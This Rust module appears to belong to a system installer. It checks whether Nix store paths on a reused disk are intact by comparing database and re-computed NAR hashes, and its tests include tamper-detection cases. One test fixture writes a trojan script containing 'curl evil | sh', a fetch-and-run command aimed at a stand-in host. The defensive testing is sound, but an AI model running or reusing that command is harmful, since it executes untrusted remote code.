//! Which store paths a root still lacks: the resume question a re-run asks
//! before sending anything — and, on a reused disk, the question of what to
//! trust from a previous system that may have been compromised.
//!
//! Invariant: a path counts as present only when
//! - the root's database says it is valid,
//! - with the narHash the controller expects (when it gave one), and
//! - a re-hash of the tree on disk (its NAR serialisation, symlinks not
//!   followed) gives that same narHash.
//!
//! A file changed inside a path, with the database left alone (or changed
//! to match), makes the path missing, so it is sent and unpacked again.
//! `nix`, `nix/store` and `nix/var/nix/db` are opened from the root down
//! without following a symlink: a root whose `nix` is a link has no usable
//! store, and every path is missing.

use std::fs::File;
use std::path::Path;

use landfall_proto::nar::{hash_path, NarHash, StorePath};

use super::db::{DbError, NixDb};
use super::fsat;

/// The paths of `paths` that are not present in `root`, in the order given,
/// judged by the database's own narHash (see [`query_missing_with`]).
pub fn query_missing(root: &Path, paths: &[StorePath]) -> Result<Vec<StorePath>, DbError> {
    query_missing_with(root, paths, &[])
}

/// The paths of `paths` that are not present in `root`, in the order given.
/// `expected[i]`, when given, is the narHash `paths[i]` must have.
pub fn query_missing_with(
    root: &Path,
    paths: &[StorePath],
    expected: &[NarHash],
) -> Result<Vec<StorePath>, DbError> {
    let Some(db) = NixDb::open_existing(root)? else {
        return Ok(paths.to_vec());
    };
    let store = File::open(root).and_then(|r| fsat::dir_chain_at(r, &[b"nix", b"store"], false));
    let Ok(store) = store else {
        return Ok(paths.to_vec());
    };
    let store_dir = fsat::fd_path(&store);
    let mut missing = Vec::new();
    for (i, p) in paths.iter().enumerate() {
        let present = match db.nar_hash_of(p)? {
            None => false,
            Some(recorded) => {
                expected.get(i).is_none_or(|e| *e == recorded)
                    && tree_hashes_to(&store_dir.join(p.base_name()), &recorded)
            }
        };
        if !present {
            missing.push(p.clone());
        }
    }
    Ok(missing)
}

/// Whether the tree at `path` (not followed if a symlink) serialises to a
/// NAR with hash `want`; unreadable counts as no.
fn tree_hashes_to(path: &Path, want: &NarHash) -> bool {
    matches!(hash_path(path), Ok(s) if s.nar_hash == *want)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::StoreInstaller;
    use landfall_proto::nar::{dump_path, PathInfo};
    use std::os::unix::fs::PermissionsExt;

    const P: &str = "/nix/store/1b9p07z77phvv2hf6gm9f28syp39f1ag-hello";

    /// A root holding the path P (a folder with one script), installed and
    /// registered the way the agent does it; returns P's info.
    fn installed(root: &Path) -> PathInfo {
        let src = tempfile::tempdir().unwrap();
        let tree = src.path().join("hello");
        std::fs::create_dir_all(tree.join("bin")).unwrap();
        std::fs::write(tree.join("bin/hello"), b"#!/bin/sh\necho hello\n").unwrap();
        let mut nar = Vec::new();
        let sum = dump_path(&tree, &mut nar).unwrap();
        let info = PathInfo {
            path: StorePath::parse(P).unwrap(),
            nar_hash: sum.nar_hash,
            nar_size: sum.nar_size,
            references: vec![],
            deriver: None,
            signatures: vec![],
            ca: None,
        };
        let mut inst = StoreInstaller::open(root).unwrap();
        inst.add(&info, &nar[..]).unwrap();
        inst.commit().unwrap();
        info
    }

    fn p() -> StorePath {
        StorePath::parse(P).unwrap()
    }

    #[test]
    fn an_intact_path_with_the_expected_hash_is_present() {
        let root = tempfile::tempdir().unwrap();
        let info = installed(root.path());
        assert!(query_missing(root.path(), &[p()]).unwrap().is_empty());
        assert!(query_missing_with(root.path(), &[p()], &[info.nar_hash])
            .unwrap()
            .is_empty());
    }

    #[test]
    fn a_file_changed_inside_a_registered_path_makes_it_missing() {
        let root = tempfile::tempdir().unwrap();
        let info = installed(root.path());
        // A trojan: the script rewritten, the database (narHash) left alone.
        let script = root
            .path()
            .join("nix/store")
            .join(p().base_name())
            .join("bin/hello");
        let mut perm = std::fs::metadata(&script).unwrap().permissions();
        perm.set_mode(0o755);
        std::fs::set_permissions(&script, perm).unwrap();
        std::fs::write(&script, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
        assert_eq!(query_missing(root.path(), &[p()]).unwrap(), [p()]);
        assert_eq!(
            query_missing_with(root.path(), &[p()], &[info.nar_hash]).unwrap(),
            [p()]
        );
        // Sent again, it is replaced and present once more.
        let mut nar = Vec::new();
        let src = tempfile::tempdir().unwrap();
        let tree = src.path().join("hello");
        std::fs::create_dir_all(tree.join("bin")).unwrap();
        std::fs::write(tree.join("bin/hello"), b"#!/bin/sh\necho hello\n").unwrap();
        dump_path(&tree, &mut nar).unwrap();
        let mut inst = StoreInstaller::open(root.path()).unwrap();
        inst.add(&info, &nar[..]).unwrap();
        inst.commit().unwrap();
        assert!(query_missing_with(root.path(), &[p()], &[info.nar_hash])
            .unwrap()
            .is_empty());
    }

    #[test]
    fn a_database_hash_other_than_the_controllers_makes_it_missing() {
        let root = tempfile::tempdir().unwrap();
        installed(root.path());
        // Tree and database agree with each other, not with the system to install.
        let other = NarHash([7; 32]);
        assert_eq!(
            query_missing_with(root.path(), &[p()], &[other]).unwrap(),
            [p()]
        );
    }

    #[test]
    fn a_nix_symlink_out_of_the_root_is_not_followed() {
        let root = tempfile::tempdir().unwrap();
        let elsewhere = tempfile::tempdir().unwrap();
        installed(elsewhere.path());
        // The old system planted `nix -> <a complete store elsewhere>`.
        std::os::unix::fs::symlink(elsewhere.path().join("nix"), root.path().join("nix")).unwrap();
        let e = query_missing(root.path(), &[p()]).unwrap_err();
        assert!(matches!(e, DbError::Prepare(..)), "{e:?}");
        // And the unpacker refuses to write through it.
        let e = crate::store::NarUnpacker::open(root.path())
            .err()
            .expect("refused");
        assert!(format!("{e:?}").contains("StoreDir"), "{e:?}");
    }
}
